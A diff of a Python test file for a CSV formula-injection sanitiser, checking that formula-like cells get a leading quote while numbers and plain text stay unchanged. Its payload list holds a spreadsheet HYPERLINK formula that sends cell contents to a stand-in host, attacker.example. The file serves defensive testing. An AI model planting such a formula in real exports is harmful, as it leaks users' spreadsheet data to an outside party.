@@ -9,9 +9,9 @@ import io
 
 import pandas as pd
 import pytest
+from test_pages import edited_catalogue
 
 from geo_service.api.csvsafe import FORMULA_START, csv_cell, safe_frame
-from test_pages import edited_catalogue
 
 PAYLOADS = [
     '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")',
@@ -28,7 +28,7 @@ def test_a_formula_cell_gets_a_leading_quote(payload):
     assert csv_cell(payload) == "'" + payload
 
 
-@pytest.mark.parametrize("value", ["Croix-Rouge", "a=b", "", "'=already quoted", "[\"=x\"]"])
+@pytest.mark.parametrize("value", ["Croix-Rouge", "a=b", "", "'=already quoted", '["=x"]'])
 def test_other_text_is_unchanged(value):
     assert csv_cell(value) == value
 
@@ -39,8 +39,9 @@ def test_numbers_keep_their_sign(value):
 
 
 def test_safe_frame_quotes_text_and_keeps_numeric_columns():
-    frame = pd.DataFrame({"gap_pp": [-3.2, 1.5], "label": ["=1+1", "fine"], "=col": ["x", "-y"]},
-                         index=pd.Index(["@a", "b"], name="nis"))
+    frame = pd.DataFrame(
+        {"gap_pp": [-3.2, 1.5], "label": ["=1+1", "fine"], "=col": ["x", "-y"]}, index=pd.Index(["@a", "b"], name="nis")
+    )
     out = safe_frame(frame)
     assert out["gap_pp"].tolist() == [-3.2, 1.5] and out["gap_pp"].dtype == float
     assert out["label"].tolist() == ["'=1+1", "fine"]
